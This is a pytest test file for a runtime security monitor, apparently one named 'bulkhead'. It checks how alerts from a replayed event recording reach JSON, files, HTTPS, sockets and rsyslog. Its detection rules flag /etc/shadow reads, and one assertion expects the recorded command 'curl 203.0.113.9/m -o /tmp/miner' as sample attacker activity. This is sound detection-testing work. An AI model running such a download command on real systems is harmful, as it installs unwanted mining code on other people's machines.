# SPDX-License-Identifier: Apache-2.0
"""Alerts on their way to real receivers: rsyslog, an HTTPS server, sockets, one that hangs. Made from a recording."""
import http.server
import json
import os
import pathlib
import re
import signal
import socket
import ssl
import subprocess
import threading
import time

import conftest
import guard_help as g
import pytest

STORY = conftest.ROOT / "tests/replay/story.bhrec"
RULES = """
- rule: Program starts
  desc: x
  condition: evt.type in (execve, execveat)
  output: Program (cmd=%proc.cmdline user=%user.uid)
  priority: WARNING
  tags: [start, T1059]
- rule: Shadow read
  desc: x
  condition: fd.name = /etc/shadow
  output: Shadow (file=%fd.name)
  priority: CRITICAL
  tags: [file]
"""


@pytest.fixture
def watch(build, tmp_path):
    """watch(OPTION...) over the recorded story: its result."""
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES)

    def call(*args, **options):
        return conftest.run(g.program(build), "watch", "--replay", STORY, "--rules", rules, "--state", tmp_path / "state", *args, check=False,
                            timeout=60, **options)
    return call


def alerts_of(text):
    """Those of rules; the story also has lost events, of which we tell ourselves."""
    return [a for a in map(json.loads, text.splitlines()) if a["source"] != "internal"]


def test_json_has_the_keys_and_types_that_forwarders_read(watch):
    r = watch("--format", "json")
    assert r.returncode == 0, r.stderr
    alerts = alerts_of(r.stdout)
    assert [a["rule"] for a in alerts] == ["Program starts", "Shadow read", "Program starts", "Program starts"]
    assert [json.loads(x)["rule"] for x in r.stdout.splitlines()][-1] == "Events lost"
    for a in alerts:
        assert list(a) == ["hostname", "output", "output_fields", "priority", "rule", "source", "tags", "time"]
        assert list(a["output_fields"]) == sorted(a["output_fields"])
        assert a["source"] == "syscall" and isinstance(a["output_fields"]["evt.time"], int)
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z", a["time"])
    shell = alerts[0]
    assert shell["priority"] == "Warning" and shell["tags"] == ["T1059", "start"]
    assert shell["output_fields"]["user.uid"] == 33
    assert shell["output_fields"]["container.id"] == "0a1b2c3d4e5f"
    assert shell["output_fields"]["k8s.pod.name"] is None
    assert shell["output"].endswith("container_id=0a1b2c3d4e5f container_name=web container_image_repository=shop/web container_image_tag=3 "
                                    "k8s_pod_name=<NA> k8s_ns_name=<NA>")
    assert re.match(r"\d\d:\d\d:\d\d\.\d{9}: Warning Program \(cmd=", shell["output"])


def test_text_is_what_json_calls_output(watch):
    text, as_json = watch(), watch("--format", "json")
    assert text.stdout.splitlines()[:4] == [a["output"] for a in alerts_of(as_json.stdout)]


def test_a_priority_a_tag_a_container_choose(watch):
    assert [a["rule"] for a in alerts_of(watch("--format", "json", "--priority", "error").stdout)] == ["Shadow read"]
    assert [a["rule"] for a in alerts_of(watch("--format", "json", "--disable", "tag:start").stdout)] == ["Shadow read"]
    assert len(alerts_of(watch("--format", "json", "--disable", "*", "--enable", "Shadow*").stdout)) == 1
    assert len(alerts_of(watch("--format", "json", "--container", "web").stdout)) == 4
    assert alerts_of(watch("--format", "json", "--container", "db").stdout) == []


def test_a_file_gets_what_its_filter_lets_through(watch, tmp_path):
    out = tmp_path / "a.json"
    r = watch("-o", f"file:{out},priority=error", "-o", f"file:{out}.2,when=proc.name=curl", "--stats")
    assert r.returncode == 0 and r.stdout == "", r.stderr
    assert [a["rule"] for a in alerts_of(out.read_text())] == ["Shadow read"]
    assert [a["output_fields"].get("proc.cmdline") for a in alerts_of(pathlib.Path(f"{out}.2").read_text())] == ["curl 203.0.113.9/m -o /tmp/miner"]
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    assert "1 delivered" in r.stderr


class Receiver(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.got.append((self.headers["Content-Type"], body))
        status = self.server.answers.pop(0) if self.server.answers else 200
        self.send_response(status)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def receiver(ca):
    """An HTTPS server; .got, and .answers for the next statuses."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Receiver)
    cert, key = ca.issue("receiver")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.got, server.answers = [], []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.url = f"https://localhost:{server.server_port}/alerts"
    yield server
    server.shutdown()


def test_each_alert_is_one_post_of_one_object(watch, receiver, ca):
    r = watch("-o", f"{receiver.url},ca={ca.pem}")
    assert r.returncode == 0, r.stderr
    assert len(receiver.got) == 5
    assert all(kind == "application/json" for kind, _ in receiver.got)
    assert [json.loads(b)["rule"] for _, b in receiver.got].count("Shadow read") == 1


def test_a_batch_is_an_array(watch, receiver, ca):
    watch("-o", f"{receiver.url},ca={ca.pem},batch=100")
    assert sum(len(json.loads(b)) for _, b in receiver.got) == 5


def test_a_receiver_that_is_busy_is_asked_again_and_one_that_refuses_is_not(watch, receiver, ca):
    receiver.answers = [503, 429, 400]
    r = watch("-o", f"{receiver.url},ca={ca.pem}", "--stats")
    first = [json.loads(b)["time"] for _, b in receiver.got]
    assert first[0] == first[1] == first[2]  # twice tried again, then refused for good
    assert len(first) == 7
    assert "4 delivered" in r.stderr and "1 refused" in r.stderr


def test_a_certificate_of_nobody_is_not_accepted(watch, receiver):
    r = watch("-o", receiver.url)
    assert receiver.got == []
    assert "5 dropped" in r.stderr and "certificate" in r.stderr.lower()


def test_a_unix_socket_gets_lines(watch, tmp_path):
    path = tmp_path / "s"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    got = []

    def serve():
        c, _ = server.accept()
        with c.makefile() as f:
            got.extend(f)
    t = threading.Thread(target=serve)
    t.start()
    watch("-o", f"unix:{path}")
    t.join(10)
    assert len([json.loads(line) for line in got]) == 5


def test_a_receiver_that_hangs_holds_nobody_up(watch, tmp_path):
    """It takes the connection, and nothing else. The other output gets all, and the end comes in time."""
    server = socket.create_server(("127.0.0.1", 0))
    begun = time.monotonic()
    r = watch("-o", f"http://127.0.0.1:{server.getsockname()[1]}/,timeout=60", "-o", f"file:{tmp_path}/a.json", "--stats")
    assert time.monotonic() - begun < 15
    assert len(alerts_of((tmp_path / "a.json").read_text())) == 4
    assert re.search(r"output http://\S+ 0 delivered, 0 wait on disk, 0 refused, [5-9] dropped", r.stderr), r.stderr
    server.close()


def test_what_was_not_delivered_is_delivered_by_the_next_run(watch, tmp_path):
    spool = tmp_path / "spool"
    spool.mkdir()
    path = tmp_path / "s"
    r = watch("-o", f"unix:{path},spool={spool},priority=warning")
    waiting = int(re.search(r"(\d+) wait on disk, 0 refused, 0 dropped", r.stderr).group(1))
    assert waiting >= 5
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    got = []

    def serve():
        c, _ = server.accept()
        with c.makefile() as f:
            got.extend(f)
    t = threading.Thread(target=serve)
    t.start()
    watch("-o", f"unix:{path},spool={spool},priority=warning")
    t.join(10)
    first, second = alerts_of("".join(got[:waiting])), alerts_of("".join(got[waiting:]))
    assert len(first) == 4 and first == second


@pytest.fixture
def rsyslog(tmp_path, ca):
    """rsyslogd on UDP, TCP and TLS; what it understood, as JSON lines."""
    conftest.need("rsyslogd")
    cert, key = ca.issue("syslog")
    ports = {way: conftest.free_port() for way in ("udp", "tcp", "tls")}
    out = tmp_path / "syslog.out"
    config = tmp_path / "rsyslog.conf"
    config.write_text(f"""
global(workDirectory="{tmp_path}" maxMessageSize="64k" defaultNetstreamDriver="ossl" defaultNetstreamDriverCAFile="{ca.pem}"
       defaultNetstreamDriverCertFile="{cert}" defaultNetstreamDriverKeyFile="{key}")
module(load="imudp")
module(load="imtcp" streamDriver.name="ossl" streamDriver.mode="1" streamDriver.authMode="anon")
module(load="imptcp")
template(name="t" type="list") {{
  constant(value="{{") property(name="syslogseverity" outname="severity" format="jsonf") constant(value=",")
  property(name="syslogfacility-text" outname="facility" format="jsonf") constant(value=",") property(name="app-name" outname="app" format="jsonf")
  constant(value=",") property(name="protocol-version" outname="version" format="jsonf") constant(value=",")
  property(name="timereported" outname="time" dateformat="rfc3339" format="jsonf") constant(value=",")
  property(name="procid" outname="pid" format="jsonf") constant(value=",") property(name="msg" outname="msg" format="jsonf")
  constant(value="}}\\n")
}}
input(type="imudp" address="127.0.0.1" port="{ports['udp']}")
input(type="imptcp" address="127.0.0.1" port="{ports['tcp']}")
input(type="imtcp" address="127.0.0.1" port="{ports['tls']}")
action(type="omfile" file="{out}" template="t")
""")
    p = subprocess.Popen(["rsyslogd", "-n", "-f", str(config), "-i", str(tmp_path / "pid")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def listens(port):
        with socket.create_connection(("127.0.0.1", port), 1):
            return True
    conftest.wait_for("rsyslogd", lambda: listens(ports["tcp"]) and listens(ports["tls"]), 20, p)

    class Rsyslog:
        def __init__(self):
            self.ports = ports

        @staticmethod
        def lines(n):
            conftest.wait_for(f"{n} messages", lambda: out.exists() and len(out.read_text().splitlines()) >= n, 10)
            return [json.loads(line) for line in out.read_text().splitlines()]
    yield Rsyslog()
    conftest.stop(p)


@pytest.mark.parametrize("way", ["udp", "tcp", "tls"])
def test_rsyslog_understands_us(watch, rsyslog, ca, way):
    more = f",ca={ca.pem}" if way == "tls" else ""
    r = watch("-o", f"syslog:{way}://localhost:{rsyslog.ports[way]},format=json,facility=local3{more}", "--stats")
    assert "5 delivered" in r.stderr, r.stderr
    lines = rsyslog.lines(5)
    assert len(lines) == 5
    assert {x["facility"] for x in lines} == {"local3"} and {x["app"] for x in lines} == {"bulkhead"} and {x["version"] for x in lines} == {"1"}
    for x in lines:
        a = json.loads(x["msg"])
        assert int(x["severity"]) == {"Critical": 2, "Warning": 4}[a["priority"]]
        assert x["time"][:19] == a["time"][:19]


def test_a_wrong_output_is_refused_at_once(watch):
    for spec, says in (("stdot", "did you mean"), ("file:/nonexistent/a", "No such file"), ("unix:/x,when=proc.nmae=a", "proc.name"),
                       ("https://x,ca=/nonexistent", "No such file")):
        r = watch("-o", spec)
        assert r.returncode in (2, 3) and says in r.stderr, r.stderr


def test_the_end_of_a_reader_is_no_crash(build, tmp_path):
    rules = tmp_path / "r.yaml"
    rules.write_text(RULES)
    p = subprocess.Popen(f"'{g.program(build)}' watch --replay '{STORY}' --rules '{rules}' --state '{tmp_path}/state'; echo $? >&2", shell=True,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    p.stdout.close()
    assert p.stderr.read().decode().strip().endswith("0")
    p.wait()


def test_a_response_that_no_rule_could_set_off_is_told(build, tmp_path):
    """A slip in the glob of a rule, in a tag and in a priority; and rows that are right."""
    (tmp_path / "rules.yaml").write_text("- { rule: A shell, desc: x, condition: evt.type = execve and proc.name = sh, output: x, priority: WARNING, tags: [T1059] }\n")
    (tmp_path / "responses.yaml").write_text("""mode: observe
responses:
  - { name: right, rules: ['A sh*'], do: [kill] }
  - { name: right tag, tags: [T1059], do: [kill] }
  - { name: all that is bad, priority: warning, do: [kill] }
  - { name: slip, rules: ['A shel'], do: [kill] }
  - { name: other tag, tags: [T1059.004], do: [kill] }
  - { name: too grave, rules: ['A sh*'], priority: critical, do: [kill] }
""")
    ran = subprocess.run([g.program(build), "watch", "-q", "--format", "json", "--login", "none", "--rules", tmp_path / "rules.yaml", "--responses", tmp_path / "responses.yaml",
                          "--state", tmp_path / "state", "--replay", STORY], check=True, capture_output=True, text=True)
    said = [a["output"] for a in map(json.loads, ran.stdout.splitlines()) if a["rule"] == "Response without a rule"]
    assert len(said) == 3, said
    for words, line, name in zip(said, (6, 7, 8), ("slip", "other tag", "too grave")):
        assert f"responses.yaml:{line}: {name}: no rule that is loaded has such a name, tag and priority" in words
